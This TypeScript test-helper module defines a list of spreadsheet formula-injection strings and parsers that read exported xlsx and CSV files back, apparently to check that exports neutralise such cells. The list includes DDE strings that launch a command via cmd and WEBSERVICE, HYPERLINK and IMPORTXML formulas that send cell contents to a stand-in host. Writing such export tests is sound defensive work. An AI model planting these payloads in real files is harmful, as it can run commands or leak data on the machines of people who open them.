import { crc32, inflateRawSync } from "node:zlib";

/** Texts that spreadsheets have run, or mangled, when they opened a file with them. For the tests of every export. */
export const PAYLOADS: readonly string[] = [
  ...["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"].flatMap((first) => [
    `${first}1+1`,
    `${first}cmd|' /C calc'!A0`,
    ` ${first}SUM(A1)`,
  ]),
  '=HYPERLINK("http://example.test?x="&A1,"点我")',
  '=WEBSERVICE("http://example.test/"&A1)',
  '=IMPORTXML("http://example.test","//a")',
  '=DDE("cmd","/C calc","!A0")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\u0000=1+1",
  "\u0001=1+1",
  "\u3000=1+1",
  "\u00a0=1+1",
  "'=1+1",
  '"=1+1',
  '","=1+1',
  ";=1+1",
  "100000000000000001",
  "425000000120261120000012345678",
  "0012",
  "1E5",
  "-0",
  "1/2",
  "2026-11-20",
  "TRUE",
  "_x0041_",
  "a_x000D_b",
  "<script>&amp;\"'",
  "]]>",
  "第一行\n第二行",
  "一\r\n二",
  "😀 家",
  "\ud800broken",
  "\uffff",
];

/** A cell as a spreadsheet reads it: text, or a number with its format. */
export type ReadCell = { readonly text: string } | { readonly number: string; readonly format: string };
export interface ReadSheet {
  readonly name: string;
  readonly frozen: boolean;
  readonly rows: readonly (readonly (ReadCell | undefined)[])[];
}

/** Opens a workbook of ours with nothing but zlib; checks the zip's own sums on the way. */
export function readXlsx(file: Buffer): ReadSheet[] {
  const parts = unzip(file);
  const formats = [
    ...parts
      .get("xl/styles.xml")!
      .match(/<cellXfs.*<\/cellXfs>/)![0]
      .matchAll(/<xf numFmtId="(\d+)"/g),
  ].map((match) => match[1]!);
  const names = [...parts.get("xl/workbook.xml")!.matchAll(/<sheet name="([^"]*)"/g)].map((match) => match[1]!);
  return names.map((name, at) => readSheet(name, parts.get(`xl/worksheets/sheet${at + 1}.xml`)!, formats));
}
function readSheet(name: string, xml: string, formats: readonly string[]): ReadSheet {
  if (/<f[ >]/.test(xml)) throw new Error("a formula");
  const rows: (ReadCell | undefined)[][] = [];
  for (const [, inside] of xml.matchAll(/<row r="\d+">(.*?)<\/row>/gs)) {
    const row: (ReadCell | undefined)[] = [];
    for (const [, letters, style, body] of inside!.matchAll(/<c r="([A-Z]+)\d+" s="(\d+)"(?: t="inlineStr")?>(.*?)<\/c>/gs)) {
      const number = /^<v>(.*)<\/v>$/.exec(body!)?.[1];
      const column = letters!.split("").reduce((sum, letter) => sum * 26 + letter.charCodeAt(0) - 64, 0) - 1;
      row[column] =
        number === undefined
          ? { text: unescape(/^<is><t xml:space="preserve">(.*)<\/t><\/is>$/s.exec(body!)![1]!) }
          : { number, format: formats[Number(style)]! };
    }
    rows.push(row);
  }
  return { name, frozen: xml.includes('state="frozen"'), rows };
}
function unescape(text: string): string {
  return text
    .replaceAll(/&(amp|lt|gt|quot);/g, (_all, name: string) => ({ amp: "&", lt: "<", gt: ">", quot: '"' })[name]!)
    .replaceAll(/_x([0-9A-F]{4})_/g, (_all, code: string) => String.fromCharCode(Number.parseInt(code, 16)));
}
function unzip(file: Buffer): Map<string, string> {
  const end = file.lastIndexOf(Buffer.from([0x50, 0x4b, 5, 6]));
  const parts = new Map<string, string>();
  for (let at = file.readUInt32LE(end + 16), left = file.readUInt16LE(end + 10); left > 0; left--) {
    const [packed, plain, nameLength, offset] = [
      file.readUInt32LE(at + 20),
      file.readUInt32LE(at + 24),
      file.readUInt16LE(at + 28),
      file.readUInt32LE(at + 42),
    ];
    const start = offset + 30 + file.readUInt16LE(offset + 26) + file.readUInt16LE(offset + 28);
    const text = inflateRawSync(file.subarray(start, start + packed));
    if (text.length !== plain || crc32(text) !== file.readUInt32LE(at + 16)) throw new Error("a wrong sum in the zip");
    parts.set(file.toString("utf8", at + 46, at + 46 + nameLength), text.toString("utf8"));
    at += 46 + nameLength;
  }
  return parts;
}

/** Reads CSV back (RFC 4180): rows of cells as text, and whether each stood in quotes. */
export function readCsv(file: Buffer): { text: string; quoted: boolean }[][] {
  const text = file.toString("utf8");
  if (!text.startsWith("\uFEFF")) throw new Error("no BOM");
  const rows: { text: string; quoted: boolean }[][] = [[]];
  for (const [, quoted, plain, end] of text.slice(1).matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy)) {
    rows.at(-1)!.push({ text: quoted === undefined ? plain! : quoted.replaceAll('""', '"'), quoted: quoted !== undefined });
    if (end === "\r\n") rows.push([]);
  }
  if (rows.pop()!.length > 0) throw new Error("the last line is not closed");
  return rows;
}
